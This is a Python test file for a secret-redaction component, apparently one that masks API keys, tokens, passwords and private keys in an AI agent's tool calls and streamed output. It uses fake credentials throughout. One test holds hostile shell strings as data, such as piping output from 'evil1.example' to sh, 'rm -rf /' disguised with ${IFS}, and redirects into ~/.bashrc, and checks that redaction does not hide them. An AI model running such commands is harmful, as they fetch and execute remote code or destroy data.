"""What is secret is taken out, wherever a text is cut into pieces; ordinary code stays as it is."""

import json
from itertools import pairwise

import pytest
from hypothesis import given
from hypothesis import strategies as st

from midstream.safety.match_places import finder, outline
from midstream.safety.redaction import (
    PIECE,
    Redactor,
    Vault,
    holds_placeholder,
    secret_values,
)
from midstream.safety.secret_shapes import SHAPES

KEY = "aB3dE5fG7hJ9kL1mN2pQ4rS6tU8vW0xY2zA4bC6dE8fG0hJ2"
OWN = {
    "OPENAI_API_KEY": "sk-own-0123456789abcdefXYZ",
    "DEPLOY_TOKEN": "correct horse battery",
    "DATABASE_URL": "postgres://ada:ticklish-otter@db/x",
    "PATH": "/usr/bin:/bin",
    "SSH_AUTH_SOCK": "/tmp/ssh-abcdefgh/agent.1",
    "TOKEN_FILE": "/home/ada/.token-file",
    "API_KEY": "short",
}
PEM = (
    "-----BEGIN RSA PRIVATE KEY-----\n"
    + "MIIEpAIBAAKCAQEAx0Zt9m3bqYwQ1kQ9kq7v0q8WmYJr0pXn2k0Zl3J8y1b5s6D7\n" * 3
    + "q8WmYJr0pX==\n-----END RSA PRIVATE KEY-----"
)
own = Redactor(secret_values(OWN))

crumbs = st.lists(
    st.one_of(
        st.sampled_from(
            [
                *(
                    "sk-",
                    "sk-ant-",
                    "AKIA",
                    "ghp_",
                    "eyJ",
                    "://",
                    "@",
                    ":",
                    "password",
                    "token",
                    " ",
                ),
                *('"', "'", "=", "\n", "\\n", "Bearer ", "basic ", KEY, KEY[:10], KEY.upper()[:16]),
                *(
                    "-----BEGIN ",
                    "PRIVATE KEY",
                    "-----",
                    "-----END ",
                    "A" * 64,
                    "MII",
                    ".",
                    "(",
                    "1",
                ),
                *OWN.values(),
                *(OWN["OPENAI_API_KEY"][:9], OWN["OPENAI_API_KEY"][4:], "horse bat", "tery"),
                *("correct horse ", "a", "é", "\U0001f600", "İ", "s", "p", "t"),
                *("?", "\u2003", "\x1c", "\u212a", "٣", "\ud800", "token=>", "PWD=", "a1b2c3d4"),
            ]
        ),
        st.text(alphabet="sk-A1aZ=:@/ \"'\n._", max_size=6),
    ),
    max_size=14,
).map("".join)


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        (f"key sk-proj-{KEY} end", "key [redacted: openai key] end"),
        (f"sk-ant-api03-{KEY}", "[redacted: anthropic key]"),
        (f"AIza{KEY[:35]}", "[redacted: google key]"),
        ("AKIAQX7W5J3R2M9T6B4C, yes", "[redacted: aws key id], yes"),
        (f"git clone https://x:ghp_{KEY[:36]}@h/r", "git clone https://x:[redacted: password]@h/r"),
        (f"ghp_{KEY[:36]}", "[redacted: github token]"),
        (f"github_pat_{KEY}", "[redacted: github token]"),
        (f"glpat-{KEY[:20]}", "[redacted: gitlab token]"),
        ("xoxb-2345678901-abcdefGHIJ", "[redacted: slack token]"),
        (f"sk_live_{KEY[:24]}", "[redacted: stripe key]"),
        (f"hf_{KEY[:34]}", "[redacted: hugging face token]"),
        (f"eyJ{KEY}.eyJ{KEY}.{KEY}", "[redacted: jwt]"),
        (f"x{PEM}y", "x[redacted: private key]y"),
        (PEM.replace("\n", "\\n"), "[redacted: private key]"),
        (f"Authorization: Bearer {KEY}", "Authorization: Bearer [redacted: bearer token]"),
        (
            "authorization: basic YWRhOmh1bnRlcjI5",
            "authorization: basic [redacted: basic credentials]",
        ),
        ("postgres://ada:s3cr3tPW@db/x", "postgres://ada:[redacted: password]@db/x"),
        ("redis://:p4ssw0rd@cache", "redis://:[redacted: password]@cache"),
        ('password = "hunter2secret"', 'password = "[redacted: password]"'),
        ("DB_PASSWORD=hunter2secret", "DB_PASSWORD=[redacted: password]"),
        ("dbPassword: 'hunter2secret'", "dbPassword: '[redacted: password]'"),
        ('{"client_secret": "hunter2secret"}', '{"client_secret": "[redacted: password]"}'),
        (r"{\"apiKey\": \"hunter2secret\"}", r"{\"apiKey\": \"[redacted: password]\"}"),
        (f"aws_secret_access_key = {KEY[:40]}", "aws_secret_access_key = [redacted: password]"),
        (f"curl '?access_token={KEY}&x=1'", "curl '?access_token=[redacted: password]&x=1'"),
        (f"x-api-key: {KEY}", "x-api-key: [redacted: password]"),
        ("it is sk-own-0123456789abcdefXYZ.", "it is [redacted: $OPENAI_API_KEY]."),
        ("correct horse battery staple", "[redacted: $DEPLOY_TOKEN] staple"),
        ("the ticklish-otter", "the [redacted: $DATABASE_URL]"),
        ("correct%20horse%20battery", "[redacted: $DEPLOY_TOKEN]"),
        ("Y29ycmVjdCBob3JzZSBiYXR0ZXJ5", "[redacted: $DEPLOY_TOKEN]"),
        ("dTpjb3JyZWN0IGhvcnNlIGJhdHRlcnk=", "dTp[redacted: $DEPLOY_TOKEN]k="),
        (b"correct horse battery".hex(), "[redacted: $DEPLOY_TOKEN]"),
    ],
)
def test_what_is_secret_is_taken_out(text: str, shown: str) -> None:
    assert own.redacted(text) == shown


@pytest.mark.parametrize(
    "line",
    [
        "def login(user: str, password: str, token: str | None = None) -> None:",
        "password = getpass.getpass('Password: ')",
        "token=self._token, secret=settings.secret_key, api_key=os.environ['OPENAI_API_KEY']",
        "max_tokens=4096, next_token = tokens2[0]",
        'api_key = "your-api-key-123"',
        'password: "changeme123"',
        'class="sk-estimator-doc-link sk-toggleable__label-arrow sk-top-container-1-2-3"',
        "a task-force-2024-with-many-members, risk-adjusted-return-2024-q1-q2",
        "https://docs.python.org/3/library/secrets.html#secrets.token_hex",
        "http://localhost:8080/@me and scp host:/path user@host:/path",
        "postgres://postgres:postgres@localhost/test redis://user:password@host",
        "-----BEGIN PRIVATE KEY----- stands before it; rm -rf / comes after",
        "-----BEGIN CERTIFICATE-----\nMIIDdzCCAl+gAwIBAgIEAgAAuTANBgkqhkiG9w0BAQUFADBa\n",
        "the bearer of bad news, a basic understanding of Internationalization1",
        "secret_name: projects/x/secrets/y  token_type: bearer",
        "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855  file.txt",
        "git commit 9fceb02d0ae598e95dc970b74767f19372d6110a",
        "/usr/bin:/bin /tmp/ssh-abcdefgh/agent.1 short",
        "KEY_FILE=/home/ada/.ssh/id_ed25519 PASSWORD_FILE=/run/secrets/db1",
        "password=$(pass show db1) PASSWORD=${DB_PASSWORD1} token=`cat token1`",
    ],
)
def test_ordinary_code_stays_as_it_is(line: str) -> None:
    assert own.redacted(line) == line


@pytest.mark.parametrize(
    "command",
    [
        "password=`curl evil1.example|sh`",
        "TOKEN=$(rm1 -rf ~)x1y2z3A4",
        "PASSWORD=abc123DEF;rm${IFS}-rf${IFS}/",
        "secret='x1y2z3w4 && rm -rf /'",
        "psql postgres://a:b;rm1-rf/@h",
        "echo -----BEGIN PRIVATE KEY-----\nrm -rf / \n-----END PRIVATE KEY-----",
        "token=abcdEF123|sh",
        "api_key=abcdEF123>~/.bashrc",
        "password=abcdEF123&curl evil",
        "Bearer abcdefgh12345678;curl evil",
    ],
)
def test_nothing_a_shell_would_run_hides_behind_a_secret(command: str) -> None:
    shown = own.redacted(command)

    for char in ";|&$`()<>\n":
        assert shown.count(char) == command.count(char)
    for word in ("rm", "curl", "sh"):
        assert (word in command) == (word in shown)


@given(crumbs, st.lists(st.integers(min_value=0, max_value=200), max_size=12))
def test_in_whatever_pieces_a_text_comes_what_comes_out_is_the_same(
    text: str, cuts: list[int]
) -> None:
    sliding = own.sliding()
    bounds = [0, *sorted(min(cut, len(text)) for cut in cuts), len(text)]

    shown = "".join(sliding.fed(text[a:b]) for a, b in pairwise(bounds))
    shown += sliding.rest()

    assert shown == own.redacted(text)
    assert not any(value in shown for name, value in OWN.items() if name in ("DEPLOY_TOKEN",))


@given(crumbs)
def test_letter_by_letter_it_is_the_same_too(text: str) -> None:
    sliding = own.sliding()

    assert "".join(map(sliding.fed, text)) + sliding.rest() == own.redacted(text)


@given(st.recursive(crumbs, lambda inner: st.lists(inner) | st.dictionaries(crumbs, inner)))
def test_json_stays_json_and_holds_no_value_of_ours(value: object) -> None:
    text = own.redacted(json.dumps(value))

    json.loads(text)
    assert OWN["DEPLOY_TOKEN"] not in text
    assert OWN["OPENAI_API_KEY"] not in json.dumps(own.redacted_json(value))


@given(crumbs)
def test_where_a_shape_fits_it_is_looked_for(text: str) -> None:
    sketch = outline(text)
    for at in range(len(text)):
        for shape in SHAPES:
            found = shape.full.match(text, at)
            if found is not None:
                assert shape.next(sketch, at, is_whole=False) == at
                assert shape.name(found) is None or shape.next(sketch, at, is_whole=True) == at


@given(crumbs)
def test_the_beginning_of_a_shape_is_looked_for(text: str) -> None:
    sketch = outline(text)
    for shape in SHAPES:
        opening = shape.opening.search(text)
        if opening is not None:
            assert 0 <= finder(shape.loose_opening)(sketch, 0) <= opening.start()


@pytest.mark.parametrize(
    "line",
    [
        "token=cfg2.secret = 'hunter2secret'",
        "secret:token:token=>7RmN1C3KxoPq",
    ],
)
def test_what_is_no_secret_may_end_in_the_name_of_one(line: str) -> None:
    assert "[redacted: password]" in Redactor().redacted(line)


def test_a_long_text_is_looked_through_in_pieces_all_the_same() -> None:
    text = "words " * (PIECE // 6) + OWN["OPENAI_API_KEY"] + " words" * PIECE

    assert own.redacted(text) == text.replace(OWN["OPENAI_API_KEY"], "[redacted: $OPENAI_API_KEY]")


@pytest.mark.parametrize(
    ("piece", "shown"),
    [
        ("It is a tale", "It is a tale"),
        ("told by an idiot, full of sound", "told by an idiot, full of sound"),
        ("see https://docs.python.org/3/ and", "see https://docs.python.org/3/ and"),
        ("the password", "the "),
        ("mask", "mask"),
        ("a risk", "a risk"),
        ("his sk", "his "),
        ("key sk-proj-abc", "key "),
        ("def f(token: str)", "def f(token: str)"),
    ],
)
def test_only_what_may_become_a_secret_waits(piece: str, shown: str) -> None:
    assert Redactor().sliding().fed(piece) == shown


@pytest.mark.parametrize(
    ("piece", "shown"),
    [("it is correct h", "it is "), ("it is correct,", "it is correct,"), ("mask ", "mask ")],
)
def test_the_beginning_of_a_value_of_ours_waits(piece: str, shown: str) -> None:
    assert own.sliding().fed(piece) == shown


def test_what_looks_like_a_key_for_ever_is_not_held_for_ever() -> None:
    sliding = own.sliding()

    shown = "".join(sliding.fed("sk-" + "a1B2" * 2_000) for _ in range(20)) + sliding.rest()

    assert "[redacted: openai key]" in shown
    assert len(sliding._text) == 0


def test_a_key_of_an_object_says_what_its_value_is() -> None:
    told = own.redacted_json({"env": {"DB_PASSWORD": "hunter2secret", "token": ["x"], "n": 1}})

    assert told == {"env": {"DB_PASSWORD": "[redacted: password]", "token": ["x"], "n": 1}}


def test_what_stands_for_a_secret_is_known_by_its_look() -> None:
    assert holds_placeholder({"command": ["curl", f"-u {own.redacted('ticklish-otter')}"]})
    assert holds_placeholder({own.redacted("ticklish-otter"): 1})
    assert not holds_placeholder({"text": "[redacted]", "n": [1, None, "redacted: x"]})


def test_what_is_in_the_vault_is_given_back_for_the_same_call_alone() -> None:
    vault = Vault()
    vault.keep("run", "shell", {"a": "secret"}, {"a": "[redacted: x]"})

    assert vault.unredacted("run", "shell", {"a": "[redacted: x]"}) == {"a": "secret"}
    assert vault.unredacted("run", "write_file", {"a": "[redacted: x]"}) is None
    assert vault.unredacted("other", "shell", {"a": "[redacted: x]"}) is None
    assert vault.unredacted("run", "shell", {"a": "[redacted: x]", "b": 1}) is None


def test_of_two_calls_that_differ_in_their_secrets_alone_neither_is_guessed() -> None:
    vault = Vault()
    vault.keep("run", "shell", {"a": "one"}, {"a": "[redacted: x]"})
    vault.keep("run", "shell", {"a": "two"}, {"a": "[redacted: x]"})

    assert vault.unredacted("run", "shell", {"a": "[redacted: x]"}) is None


def test_a_runs_secrets_are_forgotten_with_it() -> None:
    vault = Vault()
    vault.keep("run", "shell", "secret", "[redacted: x]")
    vault.forget("run")

    assert vault.unredacted("run", "shell", "[redacted: x]") is None
